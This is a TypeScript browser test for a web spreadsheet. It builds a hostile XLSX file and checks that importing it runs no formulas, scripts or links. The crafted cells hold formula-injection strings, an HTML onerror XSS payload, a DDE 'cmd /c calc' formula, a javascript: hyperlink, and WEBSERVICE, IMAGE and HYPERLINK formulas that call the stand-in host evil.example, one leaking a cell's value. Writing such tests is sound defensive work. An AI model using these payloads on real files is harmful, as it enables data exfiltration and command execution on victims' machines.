import { bookOf } from "../../src/xlsx/pages";
import { writeBook } from "../../src/xlsx/write";
import { rezipped } from "../../src/xlsx/zip";
import { CAPACITY } from "../xlsx/sample-pages";
import { openWorkbook, shows } from "./open-page";

// A stranger's file in the embedded workbook: it is a document, and never code, a link to follow unseen or a line out.

const FAR = 'HYPERLINK("http://evil.example/?"&amp;A1,"x")';
const TEXTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1"];
const inline = (texts: readonly string[]): string =>
  texts
    .map((text, i) => `<row r="${60 + i}"><c r="A${60 + i}" t="inlineStr"><is><t xml:space="preserve">${text.replace("\t", "&#9;")}</t></is></c></row>`)
    .join(""); // prettier-ignore

async function hostileFile(): Promise<Uint8Array> {
  const good = await writeBook(bookOf([{ ...CAPACITY, name: "S" }]));
  return rezipped(good, (name, text) => {
    if (name === "xl/worksheets/sheet1.xml")
      return text().then((xml) =>
        xml
          .replace(
            "</sheetData>",
            inline(TEXTS) +
              // a circle, one of a thousand cells, and one through a name
              '<row r="70"><c r="A70"><f>B70+1</f></c><c r="B70"><f>A70+1</f></c><c r="C70"><f>C70</f></c><c r="D70"><f>aa+1</f></c></row>' +
              `<row r="71">${Array.from({ length: 1000 }, (_, i) => `<c r="${column(i)}71"><f>${column((i + 1) % 1000)}71+1</f></c>`).join("")}</row>` +
              '<row r="72"><c r="A72"><f>1+1</f></c><c r="B72" t="inlineStr"><is><t>&lt;img src=x onerror=&quot;window.hurt=1&quot;&gt;</t></is></c></row>' +
              '<row r="73"><c r="A73"><f>WEBSERVICE("http://evil.example/")</f></c><c r="B73"><f>IMAGE("http://evil.example/x.png")</f></c><c r="C73"><f>' + FAR + "</f></c><c r=\"D73\"><f>cmd|' /c calc'!A0</f></c></row></sheetData>",
          )
          .replace("<pageMargins", '<hyperlinks><hyperlink ref="A72" r:id="rIdX"/></hyperlinks><pageMargins'),
      );
    if (name === "xl/worksheets/_rels/sheet1.xml.rels")
      return text().then((xml) => xml.replace("</Relationships>", '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:window.hurt=1" TargetMode="External"/></Relationships>'));
    if (name === "xl/workbook.xml")
      return text().then((xml) => xml.replace("</definedNames>", '<definedName name="aa">bb+1</definedName><definedName name="bb">aa+1</definedName></definedNames>'));
    return null;
  });
} // prettier-ignore

function column(at: number): string {
  const first = at >= 26 ? column(Math.floor(at / 26) - 1) : "";
  return first + String.fromCharCode(65 + (at % 26));
}

test("texts stay texts, circles end, links of scripts are none, and nothing is asked of anybody", async () => {
  const { page, complaints } = await openWorkbook();
  const bytes = [...(await hostileFile())];
  await page.evaluate((all) => window.vramWorkbook.open(new Uint8Array(all)), bytes);
  await shows(page, "A60:A64", TEXTS.map((text) => [text]));
  await shows(page, "A72", 2);
  // a circle shows an error or a number, and the page goes on
  await page.evaluate(() => window.vramWorkbook.type("H90", '=VRAM.KV("QwQ-32B",16000)'));
  await shows(page, "H90", expect.closeTo(4.194304, 6));
  await page.evaluate(() => {
    window.vramWorkbook.select("A72");
  });
  await page.waitForTimeout(300);
  expect(await page.locator("#bar a[href^=javascript]").count()).toBe(0);
  for (const address of ["B72", "A73", "B73", "C73"]) {
    await page.evaluate((cell) => {
      window.vramWorkbook.select(cell);
    }, address);
    await page.waitForTimeout(100);
  }
  expect(await page.evaluate(() => "hurt" in window)).toBe(false);
  // and saved again they are texts still
  const saved = await page.evaluate(async () => [...(await window.vramWorkbook.save())]);
  await page.evaluate((all) => window.vramWorkbook.open(new Uint8Array(all)), saved);
  await shows(page, "A60:A64", TEXTS.map((text) => [text]));
  // the grid knows Excel's IMAGE, and would ask for the picture: the page's policy does not let it
  expect(complaints.filter((one) => !/evil\.example\/x\.png/.test(one))).toEqual([]);
  expect(complaints.join()).toMatch(/violates the following Content Security Policy directive: "img-src 'self' data:"/);
}, 120_000); // prettier-ignore

test("a file that is refused leaves the workbook as it was", async () => {
  const { page, complaints } = await openWorkbook();
  await page.evaluate(() => window.vramWorkbook.type("H90", "=6*7"));
  const columns = `<cols>${'<col min="1" max="16384" width="9"/>'.repeat(1000)}</cols>`;
  const bytes = await rezipped(await writeBook(bookOf([CAPACITY])), (name, text) =>
    name === "xl/worksheets/sheet1.xml" ? text().then((xml) => xml.replace(/<cols>.*<\/cols>/s, columns)) : null,
  );
  const said = await page.evaluate(
    (all) =>
      window.vramWorkbook.open(new Uint8Array(all)).then(
        () => "opened",
        (error: unknown) => String(error),
      ),
    [...bytes],
  );
  expect(said).toContain("The file is damaged");
  await shows(page, "H90", 42);
  expect(complaints).toEqual([]);
}, 120_000); // prettier-ignore
